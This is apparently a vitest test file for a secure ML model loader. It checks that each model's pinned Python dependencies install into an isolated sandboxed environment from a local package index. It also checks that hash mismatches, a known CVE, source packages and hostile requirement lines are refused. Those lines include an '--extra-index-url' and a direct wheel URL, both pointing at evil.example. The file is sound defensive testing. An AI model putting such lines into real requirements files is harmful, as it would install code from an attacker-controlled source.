import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { copyFile, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type LoaderOptions, SecureMLflowLoader } from "@modelkeep/model-io";
import { DEFAULT_POLICY } from "@modelkeep/scanner/policy";
import { ScanService } from "@modelkeep/scanner/service";
import { afterAll, afterEach, beforeEach, describe, expect, test } from "vitest";
import { testPython } from "./model-io-server.ts";

// A model's own environment, built from its requirements by the real uv in its real cage, from an index on this machine.

let folder: string;
let index: Server;
let asked: string[] = [];
const scanner = new ScanService({ policy: DEFAULT_POLICY, workers: 1 });
const before = { ...process.env };

afterAll(async () => await scanner[Symbol.asyncDispose]());

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "model-environment-"));
  execFileSync(testPython(), [join(import.meta.dirname, "model_environment_index.py"), folder]);
  asked = [];
  index = createServer((request, response) => {
    void answer(request.url ?? "").then(
      ([type, body]) => response.writeHead(200, { "content-type": type }).end(body),
      () => response.writeHead(404).end(),
    );
  }).listen(0, "127.0.0.1");
  await once(index, "listening");
  process.env["UV_DEFAULT_INDEX"] = `http://127.0.0.1:${(index.address() as AddressInfo).port}/simple`;
});

afterEach(async () => {
  for (const name of ["UV_DEFAULT_INDEX"]) {
    if (before[name] === undefined) delete process.env[name];
    else process.env[name] = before[name];
  }
  index.close();
  index.closeAllConnections();
  await rm(folder, { recursive: true });
});

/** PEP 503: a page for each project; files beside. */
async function answer(path: string): Promise<[type: string, body: Buffer | string]> {
  asked.push(path);
  const project = /^\/simple\/([a-z]+)\/$/u.exec(path)?.[1];
  if (project === undefined) {
    const file = /^\/files\/([\w.-]+)$/u.exec(path)?.[1];
    return ["application/octet-stream", await readFile(join(folder, "wheels", file ?? "none"))];
  }
  const names = (await readdir(join(folder, "wheels"))).filter((name) => name.startsWith(`${project}-`));
  if (names.length === 0) throw new Error("no such project");
  return ["text/html", names.map((name) => `<a href="/files/${name}">${name}</a>`).join("\n")];
}

async function predict(requirements: string, sandbox: LoaderOptions["sandbox"] = {}): Promise<unknown> {
  await writeFile(join(folder, "model", "requirements.txt"), requirements);
  await using loader = await SecureMLflowLoader.open({
    engine: "sandbox",
    scanner,
    cache: false,
    sandbox: {
      python: testPython(),
      environment: "own",
      environments: join(folder, "environments"),
      ...sandbox,
    },
  });
  const model = await loader.safeLoadModel(join(folder, "model"));
  return (await model.predict({ inputs: [1, 2] })).predictions;
}

const environments = async (): Promise<string[]> =>
  (await readdir(join(folder, "environments"))).filter((name) => name.startsWith("env-"));

describe("a model's own environment", () => {
  test("has exactly what the model pins, runs nothing of it outside, and is found again", async () => {
    const rows = await predict("tinydep==1.0\n");
    // The package's .pth file is code: it ran in the worker, which is the first process of its own namespace.
    const row = { version: "1.0", pid: 1, pth: "1" };
    expect(rows).toEqual([
      { y: 4, ...row },
      { y: 7, ...row },
    ]);
    const [made] = await environments();
    asked = [];
    expect(await predict("tinydep==1.0\n")).toEqual(rows);
    expect([asked, await environments()]).toEqual([[], [made]]);
    // Another version is another environment.
    expect(await predict("tinydep==1.1\n")).toEqual([
      expect.objectContaining({ y: 6 }),
      expect.objectContaining({ y: 11 }),
    ]);
    expect(await environments()).toHaveLength(2);
    // One in which something changed is made anew.
    const package_ = join(folder, "environments", made ?? "", "lib");
    const [python = ""] = await readdir(package_);
    const file = join(package_, python, "site-packages", "tinydep", "__init__.py");
    await writeFile(file, "def answer(x):\n    return 666\n");
    expect(await predict("tinydep==1.0\n")).toEqual(rows);
  });

  test("a wheel that is not the one that was locked is refused", async () => {
    await predict("tinydep==1.0\n");
    for (const name of await environments())
      await rm(join(folder, "environments", name), { recursive: true });
    await copyFile(
      join(folder, "other", "tinydep-1.0-py3-none-any.whl"),
      join(folder, "wheels", "tinydep-1.0-py3-none-any.whl"),
    );
    await expect(predict("tinydep==1.0\n")).rejects.toMatchObject({
      code: "NOT_ADMITTED",
      message: expect.stringMatching(/cannot be installed.*[Hh]ash/su),
    });
    expect(await environments()).toEqual([]);
  });

  test("a vulnerable version is refused before anything of it is installed; another one is not", async () => {
    const osv = join(import.meta.dirname, "fixtures", "osv");
    const notices: string[] = [];
    const options = { osv, onNotice: (line: string) => void notices.push(line) };
    await expect(predict("tinydep==1.0\n", options)).rejects.toMatchObject({
      code: "NOT_ADMITTED",
      message: expect.stringMatching(/tinydep 1.0: CVE-2026-0001, critical/u),
    });
    expect(await environments()).toEqual([]);
    expect(notices.join("\n")).toMatch(/2 packages were looked up in 1 advisories/u);
    await predict("tinydep==1.1\n", options);
    await predict("tinydep==1.0\n", { ...options, accepted: ["CVE-2026-0001"] });
  });

  test.each([
    ["a source package, whose set-up is a program", "onlysource==1.0\n", /cannot be resolved to wheels/u],
    ["a version that is not there", "tinydep==7\n", /cannot be resolved/u],
    [
      "an option of the installer",
      "--extra-index-url http://evil.example\ntinydep==1.0\n",
      /option of the installer/u,
    ],
    ["an address", "tinydep @ http://evil.example/tinydep-1.0-py3-none-any.whl\n", /address|URL|url/u],
  ])("%s is refused, and nothing is left", async (_name, requirements, reason) => {
    await expect(predict(requirements)).rejects.toMatchObject({
      code: "NOT_ADMITTED",
      message: expect.stringMatching(reason),
    });
    const left = await readdir(join(folder, "environments")).catch(() => []);
    expect(left).toEqual([]);
  });
});
